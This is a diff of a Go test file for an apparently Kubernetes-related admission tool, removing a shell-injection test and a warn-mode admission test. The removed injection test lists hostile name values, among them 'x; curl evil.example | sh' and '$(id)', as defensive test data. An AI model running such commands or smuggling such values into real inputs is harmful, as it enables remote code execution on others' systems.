@@ -451,18 +451,6 @@ func wantText(t *testing.T, s string, limit int, allowed string) {
 	}
 }
 
-// What is no name of Kubernetes' could end the command and begin another.
-func TestCommandsHoldNamesOnly(t *testing.T) {
-	t.Parallel()
-	for _, name := range []string{"", "x; curl evil.example | sh", "$(id)", "a b", "x*", "-x", "é", "x\nid"} {
-		for _, got := range []string{verdict.Reconcile("HelmRelease", "apps", name), verdict.Reconcile("HelmRelease", name, "podinfo"), verdict.Reconcile(name, "apps", "podinfo")} {
-			if strings.Contains(got, "kubectl") {
-				t.Errorf("%q: %s", name, got)
-			}
-		}
-	}
-}
-
 // A change of a HelmRepository affects releases that are not written now.
 func TestAChangeThatBreaksAnotherObject(t *testing.T) {
 	t.Parallel()
@@ -474,26 +462,6 @@ func TestAChangeThatBreaksAnotherObject(t *testing.T) {
 	note := broken.BreaksNote("the change of HelmRepository apps/acme", 1024, "kubectl x")
 	if !strings.HasPrefix(note, "the change of HelmRepository apps/acme breaks HelmRelease apps/podinfo (SignatureMissing): "+summary+"\n  where: ") || !strings.HasSuffix(note, "\nOnce fixed: kubectl x") {
 		t.Errorf("note: %s", note)
-	}
-}
-
-// Mode Warn of an installation admits a denial of every reason, and says what it was.
-func TestAdmitAnyway(t *testing.T) {
-	for _, reason := range verdict.Reasons() {
-		denied := verdict.Deny(verdict.Subject{Kind: "HelmRelease", Namespace: "apps", Name: "podinfo"}, verdict.Denial{Reason: reason, Summary: "it is so", Next: "do that"})
-		got := verdict.AdmitAnyway(denied)
-		if !got.Admits() || !got.Warned() || got.String() != "Warned" || got.Reason() != reason || denied.Admits() {
-			t.Errorf("%s: %s, and before %s", reason, got, denied)
-		}
-		if want := fmt.Sprintf("chartgate would deny this (%s): it is so; next: do that", reason); got.Warning() != want {
-			t.Errorf("warning: %s", got.Warning())
-		}
-		if want := fmt.Sprintf("HelmRelease apps/podinfo admitted because chartgate only warns (%s): it is so\n  next:     do that", reason); got.Message() != want {
-			t.Errorf("message: %s", got.Message())
-		}
-	}
-	if zero := verdict.AdmitAnyway(verdict.Verdict{}); !zero.Admits() || zero.Reason() != verdict.InternalError {
-		t.Errorf("the zero verdict: %s (%s)", zero, zero.Reason())
 	}
 }
 
